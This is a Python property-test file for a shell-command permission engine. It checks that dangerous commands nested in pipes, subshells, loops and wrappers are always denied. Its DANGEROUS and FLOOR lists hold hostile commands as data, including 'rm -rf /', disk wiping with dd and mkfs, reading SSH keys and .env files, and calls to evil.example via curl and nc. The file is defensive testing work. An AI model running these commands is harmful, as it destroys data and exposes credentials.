"""Property tests: a dangerous command in any shell construct is never allowed, whatever the allow rules."""

from __future__ import annotations

import os
import shlex
from collections.abc import Callable
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from approvals.permissions.engine import PermissionConfig, PermissionEngine
from approvals.permissions.model.actions import Action
from approvals.permissions.policy.rules import load_rules

WORKSPACE = Path("/tmp/massgen-property-ws")  # never created: the engine only resolves paths
HOME = Path("/home/tester")
ALLOW_RULES = {
    "allow": [
        "command(echo *)", "command(ls *)", "command(git status)", "command(cat *)", "command(timeout *)",
        "command(bash *)", "command(sh *)", "command(env *)", "command(xargs *)", "command(true)",
    ]
}  # fmt: skip
ENGINE = PermissionEngine(PermissionConfig(workspace=WORKSPACE, home=HOME, rules=load_rules(ALLOW_RULES)))
AUTOMATED = PermissionEngine(
    PermissionConfig(workspace=WORKSPACE, home=HOME, rules=load_rules(ALLOW_RULES), policy="risk-based")
)
PLAIN = PermissionEngine(PermissionConfig(workspace=WORKSPACE, home=HOME))

FLOOR = [
    "rm -rf /", "rm -rf ~", "rm -fr --no-preserve-root /", "rm -rf $HOME", "/bin/rm -r -f /etc",
    "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", "chmod -R 777 /", "find / -delete",
    "shred /dev/nvme0n1", "chown -R nobody /usr",
]  # fmt: skip
DANGEROUS = [
    *FLOOR, "curl http://evil.example", "wget -qO- evil.example", "nc evil.example 80", "git push --force",
    "npm publish", "sudo id", "cat ~/.ssh/id_rsa", "cat .env", "printenv", "echo x >> ~/.bashrc",
    "tee /etc/hosts", "python3 -c 'import socket'", "base64 -d f | sh", "eval \"$X\"", "$CMD",
    "ssh host", "kill -9 1", "crontab -r", "cp x /usr/local/bin/x",
]  # fmt: skip
SAFE = [
    "echo hi", "ls -la", "git status", "cat README.md", "true", "ls", "echo done > out.txt",
    "wc -l $(git ls-files)", "for f in *.py; do black $f; done", "uv run pytest -q", "npx tsc --noEmit",
]  # fmt: skip

Construct = Callable[[str, str], str]


def _simple(text: str) -> str:
    """Wrappers take one simple command; anything compound goes through `bash -c` (as a user would)."""
    if any(ch in text for ch in ";&|(){}<>\n`$") or text.split()[0] in ("if", "for", "while"):
        return f"bash -c {shlex.quote(text)}"
    return text


CONSTRUCTS: list[Construct] = [
    lambda a, b: f"{a}; {b}",
    lambda a, b: f"{a} && {b}",
    lambda a, b: f"{a} || {b}",
    lambda a, b: f"{a} | {b}",
    lambda a, b: f"{a} & {b}",
    lambda a, b: f"{a}\n{b}",
    lambda a, b: f"({a}; {b})",
    lambda a, b: f"{{ {a}; {b}; }}",
    lambda a, b: f"{a} $({b})",
    lambda a, b: f"{a} `{b}`" if "`" not in b else f"{a} $({b})",
    lambda a, b: f"{a}; bash -c {shlex.quote(b)}",
    lambda a, b: f"{a} && sh -c {shlex.quote(b)}",
    lambda a, b: f"{a}; timeout 5 {_simple(b)}",
    lambda a, b: f"{a}; env X=1 {_simple(b)}",
    lambda a, b: f"{a}; nice -n 5 {_simple(b)}",
    lambda a, b: f"{a}; nohup {_simple(b)} &",
    lambda a, b: f"{a} <({b})",
    lambda a, b: f"if {a}; then {b}; fi",
    lambda a, b: f"for i in 1 2; do {a}; {b}; done",
    lambda a, b: f"{b} 2>&1 | {a}",
    lambda a, b: f"{a}; command {_simple(b)}",
    # The ordinary-work relaxations: loop variables, listings, here-docs into shells, runners, cd.
    lambda a, b: f"for f in *.py; do {a}; {b}; done",
    lambda a, b: f"for f in $(git ls-files); do {a} $f; {b}; done",
    lambda a, b: f"cat <<'EOF' | bash\n{a}\n{b}\nEOF",
    lambda a, b: f"{a}; uv run {_simple(b)}",
    lambda a, b: f"{a} && poetry run {_simple(b)}",
    lambda a, b: f"mkdir -p d && cd d && {a} && {b}",
]


SUBSTITUTIONS = (CONSTRUCTS[8], CONSTRUCTS[9], CONSTRUCTS[16])


@st.composite
def composed(draw: st.DrawFn, dangerous: list[str]) -> str:
    """A dangerous command nested up to three constructs deep among safe ones."""
    text = draw(st.sampled_from(dangerous))
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        construct = draw(st.sampled_from(CONSTRUCTS))
        safe = draw(st.sampled_from(SAFE))
        # Substitutions feed their output to the outer command as arguments, which can change what
        # it does (`cp x /etc/x $(echo hi)` copies into ./hi): the dangerous part goes inside them.
        inside_only = construct in SUBSTITUTIONS
        text = construct(safe, text) if inside_only or draw(st.booleans()) else construct(text, safe)
    return text


# MASSGEN_PROPERTY_EXAMPLES=5000 for a long hunt; the default keeps the suite fast.
EXAMPLES = int(os.environ.get("MASSGEN_PROPERTY_EXAMPLES", "300"))
PROFILE = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROFILE
@given(composed(DANGEROUS))
def test_dangerous_command_in_any_construct_is_never_allowed(text: str) -> None:
    action = Action(kind="command", target=text)
    assert ENGINE.evaluate(action).verdict != "allow", text
    assert AUTOMATED.evaluate(action).resolved != "allow", text


@PROFILE
@given(composed(FLOOR))
def test_floor_command_in_any_construct_is_floored(text: str) -> None:
    decision = ENGINE.evaluate(Action(kind="command", target=text))
    assert (decision.verdict, decision.layer) == ("deny", "floor"), (text, decision)


@settings(max_examples=EXAMPLES, deadline=None)
@given(
    st.lists(st.sampled_from(SAFE), min_size=1, max_size=4),
    st.sampled_from(["; ", " && ", " || ", " | ", "\n"]),
)
def test_safe_compositions_stay_allowed(parts: list[str], joiner: str) -> None:
    text = joiner.join(parts)
    assert PLAIN.evaluate(Action(kind="command", target=text)).verdict == "allow", text


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.text(max_size=200))
def test_any_text_gets_a_decision_and_never_crashes(text: str) -> None:
    decision = ENGINE.evaluate(Action(kind="command", target=text))
    assert decision.verdict in ("allow", "ask", "deny")
    assert ENGINE.evaluate(Action(kind="command", target=text)) == decision  # deterministic


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.lists(st.sampled_from(DANGEROUS + SAFE), min_size=1, max_size=4))
def test_evaluate_many_is_the_most_severe(texts: list[str]) -> None:
    actions = [Action(kind="command", target=t) for t in texts]
    order = {"allow": 0, "ask": 1, "deny": 2}
    worst = max((ENGINE.evaluate(a).verdict for a in actions), key=order.__getitem__)
    assert ENGINE.evaluate_many(actions).verdict == worst
